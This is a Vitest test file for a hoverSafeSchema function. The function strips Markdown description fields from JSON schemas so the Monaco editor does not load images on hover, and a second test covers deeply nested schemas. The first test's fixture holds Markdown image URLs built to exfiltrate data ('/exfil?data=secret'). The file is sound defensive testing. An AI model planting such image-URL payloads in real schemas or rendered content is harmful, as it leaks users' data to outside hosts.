import { describe, expect, it } from 'vitest';
import { hoverSafeSchema } from './hover-safe-schema.ts';

describe('hoverSafeSchema (issue 28: a markdownDescription image loaded from the host page)', () => {
  it('drops the Markdown texts Monaco would render, images and all, and keeps the rest', () => {
    const schema = {
      type: 'object',
      properties: {
        city: {
          type: 'string',
          description: 'City name',
          markdownDescription: '![x](http://127.0.0.1:9/exfil?data=secret)',
          enum: ['a'],
          markdownEnumDescriptions: ['![y](http://127.0.0.1:9/y)'],
        },
      },
    };
    const safe = hoverSafeSchema(schema);
    expect(safe).toEqual({ type: 'object', properties: { city: { type: 'string', description: 'City name', enum: ['a'] } } });
    expect(JSON.stringify(safe)).not.toContain('exfil');
  });

  it('cuts a schema nested past any real one instead of overflowing', () => {
    let schema: Record<string, unknown> = { type: 'string' };
    for (let level = 0; level < 50_000; level++) schema = { type: 'object', properties: { next: schema } };
    expect(() => hoverSafeSchema(schema)).not.toThrow();
  });
});
